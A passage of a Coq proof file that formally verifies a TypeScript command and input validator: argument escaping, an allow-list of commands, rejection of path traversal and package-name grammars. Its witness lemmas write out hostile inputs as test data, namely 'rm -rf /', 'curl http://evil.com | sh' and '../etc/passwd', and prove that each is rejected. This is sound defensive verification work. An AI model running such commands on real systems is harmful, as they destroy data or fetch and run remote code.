  rewrite nth_error_app2 by lia.
  replace (List.length pre + 1 - List.length pre) with 1 by lia. reflexivity.
Qed.

(** The loop, started at the end of [pre] with enough iterations left,
    appends the escaping of the rest of the input. *)
Lemma escape_loop_escape (fuel : nat) :
  forall (pre suf result : jsstring),
    List.length suf <= fuel ->
    escape_loop fuel (pre ++ suf) (List.length pre) result
    = result ++ escape suf.
Proof.
  induction fuel as [|fuel IH]; intros pre suf result Hfuel.
  - destruct suf; simpl in Hfuel; [| lia]. simpl. rewrite app_nil_r. reflexivity.
  - destruct suf as [|c r].
    { simpl. rewrite app_nil_r, Nat.ltb_irrefl, app_nil_r. reflexivity. }
    assert (Hlt : Nat.ltb (List.length pre) (List.length (pre ++ c :: r)) = true).
    { apply Nat.ltb_lt. rewrite length_app. simpl. lia. }
    simpl in Hfuel.
    assert (one : forall out,
               escape_loop fuel (pre ++ c :: r) (List.length pre + 1) (result ++ out)
               = result ++ out ++ escape r).
    { intros out.
      replace (pre ++ c :: r) with ((pre ++ [c]) ++ r)
        by (rewrite <- app_assoc; reflexivity).
      replace (List.length pre + 1) with (List.length (pre ++ [c]))
        by (rewrite length_app; reflexivity).
      rewrite IH by lia. rewrite <- app_assoc. reflexivity. }
    assert (two : forall d r' out, r = d :: r' ->
               escape_loop fuel (pre ++ c :: r) (List.length pre + 2) (result ++ out)
               = result ++ out ++ escape r').
    { intros d r' out ->.
      replace (pre ++ c :: d :: r') with ((pre ++ [c; d]) ++ r')
        by (rewrite <- app_assoc; reflexivity).
      replace (List.length pre + 2) with (List.length (pre ++ [c; d]))
        by (rewrite length_app; reflexivity).
      rewrite IH by (simpl in Hfuel; lia). rewrite <- app_assoc. reflexivity. }
    cbn [escape_loop]. rewrite Hlt. unfold escape_step.
    rewrite nth_error_middle, nth_error_after.
    cbn [escape].
    destruct (N.eqb c backslash) eqn:Hc.
    + destruct r as [|d r']; cbn [nth_error].
      * rewrite one. reflexivity.
      * destruct (includes_char dangerousChars d) eqn:Hd.
        -- rewrite (two d r' _ eq_refl). reflexivity.
        -- destruct (N.eqb d backslash) eqn:Hb.
           ++ rewrite (two d r' _ eq_refl). reflexivity.
           ++ rewrite one. reflexivity.
    + destruct (includes_char dangerousChars c) eqn:Hd;
        rewrite one; reflexivity.
Qed.

(** [escapeArgument] computes [escape]: the loop never runs short. *)
Lemma escapeArgument_escape (arg : jsstring) : escapeArgument arg = escape arg.
Proof.
  destruct arg as [|c r]; [reflexivity |].
  unfold escapeArgument.
  apply (escape_loop_escape (List.length (c :: r)) [] (c :: r) []).
  apply Nat.le_refl.
Qed.

Lemma escape_cons (c : code_unit) (r : jsstring) :
  escape (c :: r) =
  if N.eqb c backslash then
    match r with
    | d :: r' =>
        if includes_char dangerousChars d then c :: d :: escape r'
        else if N.eqb d backslash then backslash :: backslash :: escape r'
             else backslash :: backslash :: escape r
    | [] => [backslash; backslash]
    end
  else if includes_char dangerousChars c then backslash :: c :: escape r
       else c :: escape r.
Proof. reflexivity. Qed.

Lemma escape_idempotent (s : jsstring) : escape (escape s) = escape s.
Proof.
  functional induction (escape s) using escape_ind;
    try (rewrite escape_cons; cbv beta iota).
  - reflexivity.
  - rewrite N.eqb_refl, backslash_not_listed. reflexivity.
  - rewrite e0, e2, IHl. reflexivity.
  - rewrite N.eqb_refl, backslash_not_listed, IHl. reflexivity.
  - rewrite N.eqb_refl, backslash_not_listed, IHl. reflexivity.
  - rewrite N.eqb_refl, e1, IHl. reflexivity.
  - rewrite e0, e1, IHl. reflexivity.
Qed.

Lemma strip_escapes_pair (c d : code_unit) (r : jsstring) :
  N.eqb c backslash = true -> strip_escapes (c :: d :: r) = strip_escapes r.
Proof. intros H. simpl. rewrite H. reflexivity. Qed.

(** What is left of an escaped string once its escape sequences are
    removed holds no dangerous character. *)
Lemma strip_escape_safe (s : jsstring) :
  existsb is_dangerous (strip_escapes (escape s)) = false.
Proof.
  functional induction (escape s) using escape_ind;
    try (rewrite strip_escapes_pair by (assumption || apply N.eqb_refl));
    try assumption; try reflexivity.
  simpl. rewrite e0. simpl. rewrite is_dangerous_split, e0, e1. assumption.
Qed.

(** Escaping leaves a string without dangerous characters unchanged. *)
Lemma escape_safe_id (s : jsstring) :
  existsb is_dangerous s = false -> escape s = s.
Proof.
  induction s as [|c r IH]; [reflexivity |].
  cbn [existsb]. rewrite orb_false_iff, is_dangerous_split, orb_false_iff.
  intros [[Hb Hd] Hr]. rewrite escape_cons, Hb, Hd, IH by assumption.
  reflexivity.
Qed.

End EscapeFacts.

(* ===================================================================== *)
(** * commandValidator.ts: the gates of [validateCommand]                 *)
(* ===================================================================== *)

Section CommandFacts.

Import CommandValidator.

(** [validateCommand] read through the words of its input: the three
    gates in order, then escaping and joining. *)
Lemma validateCommand_cases (s : jsstring) :
  validateCommand s =
  match words s with
  | [] => reject ERR_EMPTY
  | b :: args =>
      if includes ALLOWED_COMMANDS b then
        if existsb is_dangerous (trim s) then reject ERR_UNSAFE
        else accept (join (lit " ") (b :: map escapeArgument args))
      else reject (ERR_NOT_ALLOWED ++ b)
  end.
Proof.
  destruct s as [|c0 s0]; [reflexivity |].
  unfold validateCommand. remember (c0 :: s0) as s eqn:Es. clear Es c0 s0.
  destruct (trim s) as [|c t] eqn:Et.
  - rewrite (words_blank s Et). reflexivity.
  - assert (Hne : trim s <> []) by (rewrite Et; discriminate).
    cbn [List.length Nat.eqb]. rewrite <- Et.
    rewrite (split_ws_trim s Hne), containsDangerousChars_existsb.
    destruct (first_token_some s Hne) as (b & args & Ew). rewrite Ew.
    cbn [nth_error tl]. destruct (includes ALLOWED_COMMANDS b); reflexivity.
Qed.

Lemma has_dangerous_trim (s : jsstring) :
  has_dangerous s <-> has_dangerous (trim s).
Proof.
  unfold has_dangerous. split; intros (c & Hin & Hc); exists c; split; auto.
  - apply trim_keeps; auto. apply dangerous_not_space; assumption.
  - apply trim_incl; assumption.
Qed.

Lemma existsb_collapse (b : bool) (s : jsstring) :
  existsb is_dangerous s = false ->
  existsb is_dangerous (collapse_from b s) = false.
Proof.
  revert b. induction s as [|c r IH]; intros b; simpl; auto.
  rewrite orb_false_iff. intros [Hc Hr].
  destruct (isWhiteSpace c).
  - destruct b; [apply IH; exact Hr |].
    cbn [existsb]. change (is_dangerous 32%N) with false. apply IH; exact Hr.
  - cbn [existsb]. rewrite Hc. apply IH; exact Hr.
Qed.

(** ** C1 *)

(** C1 (injection safety).  A command whose first white-space-separated
    token is not in the allow-list, or which holds a character of the
    dangerous set anywhere, is rejected: [valid] is false and there is no
    [sanitizedCommand]. *)
Theorem validateCommand_injection_safety (s : jsstring) :
  (forall b, first_token s = Some b -> ~ In b ALLOWED_COMMANDS)
  \/ has_dangerous s ->
  valid (validateCommand s) = false
  /\ sanitizedCommand (validateCommand s) = None.
Proof.
  intros H. rewrite validateCommand_cases.
  unfold first_token in H. destruct (words s) as [|b args]; [split; reflexivity |].
  destruct (includes ALLOWED_COMMANDS b) eqn:Hb; [| split; reflexivity].
  destruct H as [H | H].
  - exfalso. apply (H b eq_refl). apply includes_In; assumption.
  - apply has_dangerous_trim, has_dangerous_existsb in H. rewrite H.
    split; reflexivity.
Qed.

Lemma validateCommand_injection_safety_witness :
  ((forall b, first_token (lit "rm -rf /") = Some b -> ~ In b ALLOWED_COMMANDS)
   \/ has_dangerous (lit "rm -rf /"))
  /\ valid (validateCommand (lit "rm -rf /")) = false
  /\ sanitizedCommand (validateCommand (lit "rm -rf /")) = None.
Proof.
  assert (H : (forall b, first_token (lit "rm -rf /") = Some b ->
                         ~ In b ALLOWED_COMMANDS)
              \/ has_dangerous (lit "rm -rf /")).
  { left. intros b Hb Hin. vm_compute in Hb. injection Hb as <-.
    apply includes_In in Hin. vm_compute in Hin. discriminate. }
  split; [exact H |].
  exact (validateCommand_injection_safety (lit "rm -rf /") H).
Defined.

(** ** C2 *)

(** C2 (escaping idempotence).  Escaping an already escaped string changes
    nothing, whatever the string: partially escaped input and runs of
    backslashes included. *)
Theorem escapeArgument_idempotent (s : jsstring) :
  escapeArgument (escapeArgument s) = escapeArgument s.
Proof. rewrite !escapeArgument_escape. apply escape_idempotent. Qed.

(** ** C3 *)

(** C3 (escaping completeness).  Once the escape sequences of
    [escapeArgument s] are removed, [containsDangerousChars] finds nothing:
    no dangerous character is left unescaped. *)
Theorem escapeArgument_complete (s : jsstring) :
  containsDangerousChars (strip_escapes (escapeArgument s)) = false.
Proof.
  rewrite containsDangerousChars_existsb, escapeArgument_escape.
  apply strip_escape_safe.
Qed.

(** ** C7 *)

Lemma reasons_distinct (b : jsstring) :
  ERR_EMPTY <> ERR_UNSAFE
  /\ ERR_NOT_ALLOWED ++ b <> ERR_EMPTY
  /\ ERR_NOT_ALLOWED ++ b <> ERR_UNSAFE.
Proof. repeat split; discriminate. Qed.

(** C7 (gate order).  The gates apply in order and the first failure
    decides the reason: an empty or all-white-space command gets the
    empty-command reason; otherwise a first token that is not, exactly and
    with its case, in the allow-list gets the reason naming that token,
    dangerous characters or not; only an allow-listed command is scanned,
    as a whole, for dangerous characters. *)
Theorem validateCommand_gate_order (s : jsstring) :
  (forallb isWhiteSpace s = true -> validateCommand s = reject ERR_EMPTY)
  /\ (forall b, first_token s = Some b -> ~ In b ALLOWED_COMMANDS ->
        validateCommand s = reject (ERR_NOT_ALLOWED ++ b)
        /\ ERR_NOT_ALLOWED ++ b <> ERR_UNSAFE
        /\ ERR_NOT_ALLOWED ++ b <> ERR_EMPTY)
  /\ (forall b, first_token s = Some b -> In b ALLOWED_COMMANDS ->
        has_dangerous (trim s) ->
        validateCommand s = reject ERR_UNSAFE)
  /\ (forall b, first_token s = Some b -> In b ALLOWED_COMMANDS ->
        ~ has_dangerous (trim s) ->
        valid (validateCommand s) = true)
  /\ validateCommand (lit "NPM install") = reject (ERR_NOT_ALLOWED ++ lit "NPM")
  /\ validateCommand (lit "rm -rf /; ls") = reject (ERR_NOT_ALLOWED ++ lit "rm").
Proof.
  rewrite validateCommand_cases. unfold first_token.
  split; [| split; [| split; [| split; [| split; reflexivity]]]].
  - intros Ht. apply trim_nil_iff in Ht. rewrite (words_blank s Ht).
    reflexivity.
  - intros b Hw Hout. destruct (words s) as [|b' args]; [discriminate |].
    simpl in Hw. injection Hw as ->.
    split; [| split; apply (reasons_distinct b)].
    destruct (includes ALLOWED_COMMANDS b) eqn:Hb; [| reflexivity].
    exfalso. apply Hout, includes_In; assumption.
  - intros b Hw Hin Hd. destruct (words s) as [|b' args]; [discriminate |].
    simpl in Hw. injection Hw as ->.
    apply includes_In in Hin. rewrite Hin.
    apply has_dangerous_existsb in Hd. rewrite Hd. reflexivity.
  - intros b Hw Hin Hd. destruct (words s) as [|b' args]; [discriminate |].
    simpl in Hw. injection Hw as ->.
    apply includes_In in Hin. rewrite Hin.
    rewrite has_dangerous_existsb in Hd.
    destruct (existsb is_dangerous (trim s)); [contradiction Hd |]; reflexivity.
Qed.

Lemma validateCommand_gate_order_witness :
  first_token (lit "curl http://evil.com | sh") = Some (lit "curl")
  /\ ~ In (lit "curl") ALLOWED_COMMANDS
  /\ has_dangerous (lit "curl http://evil.com | sh")
  /\ validateCommand (lit "curl http://evil.com | sh")
     = reject (ERR_NOT_ALLOWED ++ lit "curl").
Proof.
  assert (Hw : first_token (lit "curl http://evil.com | sh") = Some (lit "curl"))
    by reflexivity.
  assert (Hout : ~ In (lit "curl") ALLOWED_COMMANDS).
  { intros Hin. apply includes_In in Hin. vm_compute in Hin. discriminate. }
  assert (Hd : has_dangerous (lit "curl http://evil.com | sh")).
  { apply has_dangerous_existsb. reflexivity. }
  split; [exact Hw |]. split; [exact Hout |]. split; [exact Hd |].
  exact (proj1 (proj1 (proj2 (validateCommand_gate_order
                                (lit "curl http://evil.com | sh")))
                  (lit "curl") Hw Hout)).
Defined.

(** ** C8 *)

(** C8 (sanitized command).  When the first token is allow-listed and the
    trimmed command holds no dangerous character, the command is accepted
    and [sanitizedCommand] is the base command followed by every argument
    token passed through [escapeArgument], joined with single spaces. *)
Theorem validateCommand_sanitized (s b : jsstring) (args : list jsstring) :
  words s = b :: args ->
  In b ALLOWED_COMMANDS ->
  ~ has_dangerous (trim s) ->
  validateCommand s = accept (join (lit " ") (b :: map escapeArgument args)).
Proof.
  intros Hw Hin Hd. rewrite validateCommand_cases, Hw.
  apply includes_In in Hin. rewrite Hin.
  rewrite has_dangerous_existsb in Hd.
  destruct (existsb is_dangerous (trim s)); [contradiction Hd |]; reflexivity.
Qed.

Lemma validateCommand_sanitized_witness :
  words (lit "  npm   install   lodash  ") = [lit "npm"; lit "install"; lit "lodash"]
  /\ In (lit "npm") ALLOWED_COMMANDS
  /\ ~ has_dangerous (trim (lit "  npm   install   lodash  "))
  /\ validateCommand (lit "  npm   install   lodash  ")
     = accept (lit "npm install lodash").
Proof.
  assert (Hw : words (lit "  npm   install   lodash  ")
               = [lit "npm"; lit "install"; lit "lodash"]) by reflexivity.
  assert (Hin : In (lit "npm") ALLOWED_COMMANDS) by (left; reflexivity).
  assert (Hd : ~ has_dangerous (trim (lit "  npm   install   lodash  "))).
  { rewrite has_dangerous_existsb. vm_compute. discriminate. }
  split; [exact Hw |]. split; [exact Hin |]. split; [exact Hd |].
  exact (validateCommand_sanitized (lit "  npm   install   lodash  ")
           (lit "npm") [lit "install"; lit "lodash"] Hw Hin Hd).
Defined.

(** ** C10 *)

Lemma safe_words (s w : jsstring) :
  existsb is_dangerous s = false -> In w (words s) ->
  existsb is_dangerous w = false.
Proof.
  intros Hs Hw. destruct (existsb is_dangerous w) eqn:E; auto.
  apply existsb_exists in E. destruct E as (c & Hc & Hdc).
  assert (Hin : In c s) by (eapply words_incl; eauto).
  assert (existsb is_dangerous s = true)
    by (apply existsb_exists; exists c; auto).
  congruence.
Qed.

Lemma collapse_trim_words (s : jsstring) :
  trim s <> [] -> join (lit " ") (words s) = collapse_ws (trim s).
Proof.
  intros Hne. destruct (trim_decompose s) as (_ & _ & _ & _ & _ & Hc).
  destruct Hc as [Ht | (Hend & c & t & Ht & Hws)]; [contradiction |].
  rewrite <- words_trim. change (lit " ") with [32%N].
  rewrite join_words_collapse by assumption.
  unfold collapse_ws. rewrite Ht. apply collapse_from_flag; assumption.
Qed.

(** C10 (accepted commands are already safe).  In an accepted command no
    argument token holds a dangerous character, so [escapeArgument] leaves
    every argument as it is; the sanitized command is the trimmed input
    with its runs of white space collapsed to single spaces, and it holds
    no dangerous character. *)
Theorem validateCommand_accepted_normal_form (s : jsstring) :
  valid (validateCommand s) = true ->
  exists b args,
    words s = b :: args
    /\ Forall (fun a => containsDangerousChars a = false
                        /\ escapeArgument a = a) args
    /\ sanitizedCommand (validateCommand s) = Some (collapse_ws (trim s))
    /\ containsDangerousChars (collapse_ws (trim s)) = false.
Proof.
  rewrite validateCommand_cases.
  destruct (words s) as [|b args] eqn:Ew; [discriminate |].
  destruct (includes ALLOWED_COMMANDS b); [| discriminate].
  destruct (existsb is_dangerous (trim s)) eqn:Hd; [discriminate |].
  intros _. exists b, args.
  assert (Hs : existsb is_dangerous s = false).
  { destruct (existsb is_dangerous s) eqn:E; auto.
    apply has_dangerous_existsb, has_dangerous_trim, has_dangerous_existsb in E.
    congruence. }
  assert (Hargs : Forall (fun a => containsDangerousChars a = false
                                   /\ escapeArgument a = a) args).
  { apply Forall_forall. intros a Ha.
    assert (Hsafe : existsb is_dangerous a = false).
    { apply (safe_words s a Hs). rewrite Ew. right; assumption. }
    rewrite containsDangerousChars_existsb, escapeArgument_escape.
    split; [assumption | apply escape_safe_id; assumption]. }
  assert (Hne : trim s <> []).
  { intros Ht. rewrite (words_blank s Ht) in Ew. discriminate. }
  repeat split; auto.
  - cbn [accept sanitizedCommand]. f_equal.
    rewrite <- (collapse_trim_words s Hne), Ew. f_equal. f_equal.
    clear - Hargs. induction Hargs as [|a l [_ Ha] _ IH]; simpl; congruence.
  - rewrite containsDangerousChars_existsb.
    apply existsb_collapse; assumption.
Qed.

Lemma validateCommand_accepted_normal_form_witness :
  valid (validateCommand (lit "pip3  install requests")) = true
  /\ exists b args,
       words (lit "pip3  install requests") = b :: args
       /\ Forall (fun a => containsDangerousChars a = false
                           /\ escapeArgument a = a) args
       /\ sanitizedCommand (validateCommand (lit "pip3  install requests"))
          = Some (collapse_ws (trim (lit "pip3  install requests")))
       /\ containsDangerousChars
            (collapse_ws (trim (lit "pip3  install requests"))) = false.
Proof.
  split; [reflexivity |].
  exact (validateCommand_accepted_normal_form
           (lit "pip3  install requests") eq_refl).
Defined.

End CommandFacts.

(* ===================================================================== *)
(** * inputValidator.ts: paths                                            *)
(* ===================================================================== *)

Section PathFacts.

Import InputValidator.

(** The traversal pattern is found exactly in the strings that contain
    two consecutive dots. *)
Lemma search_traversal (s : jsstring) :
  search PATH_TRAVERSAL_PATTERN s = true <-> has_dotdot s.
Proof.
  rewrite search_factor. unfold has_dotdot, PATH_TRAVERSAL_PATTERN, Chr. split.
  - intros (pre & mid & suf & -> & Hm). apply Matches_cat in Hm.
    destruct Hm as (s1 & s2 & -> & H1 & H2).
    apply Matches_class in H1. destruct H1 as (c1 & -> & Hc1).
    apply Matches_class in H2. destruct H2 as (c2 & -> & Hc2).
    simpl in Hc1, Hc2. rewrite orb_false_r in Hc1, Hc2.
    apply N.eqb_eq in Hc1, Hc2. subst. exists pre, suf. reflexivity.
  - intros (pre & suf & ->). exists pre, [46; 46]%N, suf. split; auto.
    apply (MCat _ _ [46%N] [46%N]); constructor; reflexivity.
Qed.

Lemma dotdotb_cons (c d : code_unit) (r : jsstring) :
  dotdotb (c :: d :: r) = N.eqb c 46 && N.eqb d 46 || dotdotb (d :: r).
Proof. reflexivity. Qed.

Lemma has_dotdot_dotdotb (s : jsstring) :
  has_dotdot s <-> dotdotb s = true.
Proof.
  split.
  - intros (pre & suf & ->). induction pre as [|c pre IH].
    + reflexivity.
    + change (dotdotb ((c :: pre) ++ [46; 46]%N ++ suf))
        with (dotdotb (c :: (pre ++ [46; 46]%N ++ suf))).
      destruct (pre ++ [46; 46]%N ++ suf) as [|d rest] eqn:E.
      * destruct pre; discriminate.
      * rewrite dotdotb_cons, IH. apply orb_true_r.
  - induction s as [|c r IH]; [discriminate |].
    destruct r as [|d r']; [discriminate |].
    rewrite dotdotb_cons, orb_true_iff, andb_true_iff, !N.eqb_eq.
    intros [[-> ->] | H].
    + exists [], r'. reflexivity.
    + destruct (IH H) as (pre & suf & E). exists (c :: pre), suf.
      rewrite E. reflexivity.
Qed.

Lemma space_not_dot (c : code_unit) :
  isWhiteSpace c = true -> N.eqb c 46 = false.
Proof.
  intros H. destruct (N.eqb c 46) eqn:E; auto.
  apply N.eqb_eq in E. subst. discriminate.
Qed.

Lemma dotdotb_space_app (l s : jsstring) :
  forallb isWhiteSpace l = true -> dotdotb (l ++ s) = dotdotb s.
Proof.
  induction l as [|c l IH]; [reflexivity |].
  cbn [forallb]. rewrite andb_true_iff. intros [Hc Hl].
  change ((c :: l) ++ s) with (c :: (l ++ s)).
  destruct (l ++ s) as [|d rest] eqn:E.
  - destruct l; [| discriminate]. simpl in E. subst. reflexivity.
  - rewrite dotdotb_cons, (space_not_dot c Hc). cbn [andb orb].
    apply IH; exact Hl.
Qed.

Lemma dotdotb_app_space (s r : jsstring) :
  forallb isWhiteSpace r = true -> dotdotb (s ++ r) = dotdotb s.
Proof.
  intros Hr.
  assert (Hnil : dotdotb r = false).
  { rewrite <- (app_nil_r r). rewrite dotdotb_space_app by assumption.
    reflexivity. }
  induction s as [|c s IH]; [exact Hnil |].
  change ((c :: s) ++ r) with (c :: (s ++ r)).
  destruct s as [|d s'].
  - simpl app. destruct r as [|x r']; [reflexivity |].
    rewrite dotdotb_cons. cbn [forallb] in Hr. apply andb_true_iff in Hr.
    rewrite (space_not_dot x (proj1 Hr)), andb_false_r. exact Hnil.
  - change ((d :: s') ++ r) with (d :: (s' ++ r)) in *.
    rewrite !dotdotb_cons, IH. reflexivity.
Qed.

(** Trimming neither hides nor creates a traversal. *)
Lemma has_dotdot_trim (s : jsstring) : has_dotdot s <-> has_dotdot (trim s).
Proof.
  rewrite !has_dotdot_dotdotb.
  destruct (trim_decompose s) as (l & r & E & Hl & Hr & _).
  rewrite E at 1. rewrite dotdotb_space_app, dotdotb_app_space by assumption.
  tauto.
Qed.

Lemma validatePath_cases (s : jsstring) :
  validatePath s =
  match trim s with
  | [] => reject ERR_PATH_EMPTY
  | _ => if dotdotb (trim s) then reject ERR_PATH_TRAVERSAL
         else accept (trim s)
  end.
Proof.
  unfold validatePath. destruct (trim s) as [|c t] eqn:Et; [reflexivity |].
  cbn [str_eqb]. rewrite <- Et.
  replace (search PATH_TRAVERSAL_PATTERN (trim s)) with (dotdotb (trim s));
    [reflexivity |].
  apply eq_true_iff_eq. rewrite search_traversal, has_dotdot_dotdotb. tauto.
Qed.

(** ** C4 *)

(** C4 (path traversal).  [validatePath] rejects the empty and the
    white-space-only strings, rejects every string that contains two
    consecutive dots (in the string or, the same, in its trimmed value,
    whatever the separators around them), and accepts every other string,
    returning its trimmed value as it is. *)
Theorem validatePath_traversal (s : jsstring) :
  (forallb isWhiteSpace s = true -> validatePath s = reject ERR_PATH_EMPTY)
  /\ (has_dotdot (trim s) -> validatePath s = reject ERR_PATH_TRAVERSAL)
  /\ (has_dotdot s -> validatePath s = reject ERR_PATH_TRAVERSAL)
  /\ (forallb isWhiteSpace s = false -> ~ has_dotdot (trim s) ->
      validatePath s = accept (trim s)).
Proof.
  rewrite validatePath_cases.
  assert (Hdd : has_dotdot (trim s) ->
                match trim s with
                | [] => reject ERR_PATH_EMPTY
                | _ :: _ => if dotdotb (trim s) then reject ERR_PATH_TRAVERSAL
                            else accept (trim s)
                end = reject ERR_PATH_TRAVERSAL).
  { intros H. apply has_dotdot_dotdotb in H. rewrite H.
    destruct (trim s); [discriminate | reflexivity]. }
  split; [| split; [| split]].
  - intros H. apply trim_nil_iff in H. rewrite H. reflexivity.
  - exact Hdd.
  - intros H. apply Hdd. apply (proj1 (has_dotdot_trim s)). exact H.
  - intros Hs Hn. rewrite has_dotdot_dotdotb in Hn.
    destruct (trim s) as [|c t] eqn:Et.
    + apply trim_nil_iff in Et. congruence.
    + destruct (dotdotb (c :: t)); [contradiction Hn |]; reflexivity.
Qed.

Lemma validatePath_traversal_witness :
  (forallb isWhiteSpace (lit " C:\Users\file.txt ") = false)
  /\ ~ has_dotdot (trim (lit " C:\Users\file.txt "))
  /\ validatePath (lit " C:\Users\file.txt ") = accept (lit "C:\Users\file.txt")
  /\ has_dotdot (lit "C:\Users\..\Admin")
  /\ validatePath (lit "C:\Users\..\Admin") = reject ERR_PATH_TRAVERSAL.
Proof.
  assert (Hs : forallb isWhiteSpace (lit " C:\Users\file.txt ") = false)
    by reflexivity.
  assert (Hn : ~ has_dotdot (trim (lit " C:\Users\file.txt "))).
  { rewrite has_dotdot_dotdotb. vm_compute. discriminate. }
  assert (Hd : has_dotdot (lit "C:\Users\..\Admin")).
  { apply has_dotdot_dotdotb. reflexivity. }
  split; [exact Hs |]. split; [exact Hn |].
  split; [exact (proj2 (proj2 (proj2
                   (validatePath_traversal (lit " C:\Users\file.txt ")))) Hs Hn) |].
  split; [exact Hd |].
  exact (proj1 (proj2 (proj2
           (validatePath_traversal (lit "C:\Users\..\Admin")))) Hd).
Defined.

End PathFacts.

(* ===================================================================== *)
(** * inputValidator.ts: package names                                    *)
(* ===================================================================== *)

Section PackageNameFacts.

Import InputValidator.

(** A head character followed by tail characters. *)
Lemma Matches_npm_segment (s : jsstring) :
  Matches (Cat (Class NPM_HEAD) (Star (Class NPM_TAIL))) s
  <-> npm_segment s = true.
Proof.
  rewrite Matches_cat. split.
  - intros (s1 & s2 & -> & H1 & H2).
    apply Matches_class in H1. destruct H1 as (h & -> & Hh).
    apply Matches_class_star in H2. change ([h] ++ s2) with (h :: s2).
    unfold npm_segment. rewrite Hh, H2. reflexivity.
  - destruct s as [|h tl]; [discriminate |].
    unfold npm_segment. rewrite andb_true_iff. intros [Hh Ht].
    exists [h], tl. repeat split.
    + constructor; assumption.
    + apply Matches_class_star; assumption.
Qed.

(** The language of [NPM_PACKAGE_PATTERN] is the npm grammar. *)
Lemma Matches_NPM (s : jsstring) :
  Matches NPM_PACKAGE_PATTERN s <-> npm_name s.
Proof.
  unfold NPM_PACKAGE_PATTERN, npm_name, Chr.
  rewrite Matches_cat. split.
  - intros (s1 & s2 & -> & H1 & H2).
    apply Matches_npm_segment in H2.
    apply Matches_opt in H1. destruct H1 as [-> | H1]; [left; assumption |].
    right.
    apply Matches_cat in H1. destruct H1 as (a & s3 & -> & Ha & H3).
    apply Matches_class in Ha. destruct Ha as (x & -> & Hx).
    simpl in Hx. rewrite orb_false_r in Hx. apply N.eqb_eq in Hx. subst x.
    apply Matches_cat in H3. destruct H3 as (h & s4 & -> & Hh & H4).
    apply Matches_class in Hh. destruct Hh as (y & -> & Hy).
    apply Matches_cat in H4. destruct H4 as (tl & sl & -> & Htl & Hsl).
    apply Matches_class_star in Htl.
    apply Matches_class in Hsl. destruct Hsl as (z & -> & Hz).
    simpl in Hz. rewrite orb_false_r in Hz. apply N.eqb_eq in Hz. subst z.
    exists (y :: tl), s2. repeat split; auto.
    + simpl. rewrite <- !app_assoc. reflexivity.
    + unfold npm_segment. rewrite Hy, Htl. reflexivity.
  - intros [H | (scope & name & -> & Hs & Hn)].
    + exists [], s. repeat split.
      * apply Matches_opt. left; reflexivity.
      * apply Matches_npm_segment; assumption.
    + exists ([64%N] ++ scope ++ [47%N]), name. repeat split.
      * rewrite <- !app_assoc. reflexivity.
      * apply Matches_opt. right.
        destruct scope as [|h tl]; [discriminate |].
        unfold npm_segment in Hs. apply andb_true_iff in Hs.
        destruct Hs as [Hh Ht].
        apply (MCat _ _ [64%N] ((h :: tl) ++ [47%N])); [constructor; reflexivity |].
        apply (MCat _ _ [h] (tl ++ [47%N])); [constructor; assumption |].
        apply MCat; [apply Matches_class_star; assumption |].
        constructor; reflexivity.
      * apply Matches_npm_segment; assumption.
Qed.

(** The language of [PIP_PACKAGE_PATTERN] is the pip grammar. *)
Lemma Matches_PIP (s : jsstring) :
  Matches PIP_PACKAGE_PATTERN s <-> pip_name s.
Proof.
  unfold PIP_PACKAGE_PATTERN, pip_name. rewrite Matches_cat. split.
  - intros (s1 & s2 & -> & H1 & H2).
    apply Matches_class in H1. destruct H1 as (a & -> & Ha).
    apply Matches_opt in H2. destruct H2 as [-> | H2].
    + left. exists a. auto.
    + right. apply Matches_cat in H2. destruct H2 as (inner & s3 & -> & Hi & H3).
      apply Matches_class_star in Hi.
      apply Matches_class in H3. destruct H3 as (b & -> & Hb).
      exists a, inner, b. auto.
  - intros [(a & -> & Ha) | (a & inner & b & -> & Ha & Hi & Hb)].
    + exists [a], []. repeat split.
      * constructor; assumption.
      * apply Matches_opt. left; reflexivity.
    + exists [a], (inner ++ [b]). repeat split.
      * constructor; assumption.
      * apply Matches_opt. right.
        apply MCat; [apply Matches_class_star; assumption |].
        constructor; assumption.
Qed.

Lemma validatePackageName_cases (s : jsstring) :
  validatePackageName s =
  if full_match NPM_PACKAGE_PATTERN (trim s)
     || full_match PIP_PACKAGE_PATTERN (trim s)
  then accept (trim s)
  else match trim s with
       | [] => reject ERR_NAME_EMPTY
       | _ => reject ERR_NAME_FORMAT
       end.
Proof.
  unfold validatePackageName. destruct (trim s) as [|c t]; [reflexivity |].
  cbn [str_eqb].
  destruct (full_match NPM_PACKAGE_PATTERN (c :: t)); [reflexivity |].
  destruct (full_match PIP_PACKAGE_PATTERN (c :: t)); reflexivity.
Qed.

(** ** C5 *)

(** C5 (package-name grammar).  [validatePackageName] accepts exactly the
    strings whose trimmed value is in the language of the npm pattern or of
    the pip pattern, that is, follows the npm or the pip grammar; it then
    returns the trimmed value itself, case included.  Everything else is
    rejected with no value: among others the empty string, blanks,
    [my package] and [../etc/passwd]. *)
Theorem validatePackageName_grammar (s : jsstring) :
  (valid (validatePackageName s) = true
   <-> Matches NPM_PACKAGE_PATTERN (trim s)
       \/ Matches PIP_PACKAGE_PATTERN (trim s))
  /\ (valid (validatePackageName s) = true
      <-> npm_name (trim s) \/ pip_name (trim s))
  /\ (valid (validatePackageName s) = true
      -> validatePackageName s = accept (trim s))
  /\ (valid (validatePackageName s) = false
      -> value (validatePackageName s) = None)
  /\ Forall (fun x => valid (validatePackageName (lit x)) = false)
       [ ""; "   "; "my package"; "../etc/passwd" ]%string
  /\ validatePackageName (lit " Django ") = accept (lit "Django").
Proof.
  assert (Hv : valid (validatePackageName s) = true
               <-> Matches NPM_PACKAGE_PATTERN (trim s)
                   \/ Matches PIP_PACKAGE_PATTERN (trim s)).
  { rewrite validatePackageName_cases, <- !full_match_Matches.
    rewrite <- orb_true_iff.
    destruct (full_match NPM_PACKAGE_PATTERN (trim s)
              || full_match PIP_PACKAGE_PATTERN (trim s)).
    - simpl. tauto.
    - destruct (trim s); simpl; split; discriminate. }
  split; [exact Hv |].
  split; [rewrite Hv, Matches_NPM, Matches_PIP; tauto |].
  split; [| split; [| split]].
  - rewrite validatePackageName_cases.
    destruct (full_match NPM_PACKAGE_PATTERN (trim s)
              || full_match PIP_PACKAGE_PATTERN (trim s)); [reflexivity |].
    destruct (trim s); discriminate.
  - rewrite validatePackageName_cases.
    destruct (full_match NPM_PACKAGE_PATTERN (trim s)
              || full_match PIP_PACKAGE_PATTERN (trim s)); [discriminate |].
    destruct (trim s); reflexivity.
  - repeat constructor.
  - reflexivity.
Qed.

Lemma validatePackageName_grammar_witness :
  npm_name (trim (lit " @types/node "))
  /\ validatePackageName (lit " @types/node ") = accept (lit "@types/node").
Proof.
  assert (H : npm_name (trim (lit " @types/node "))).
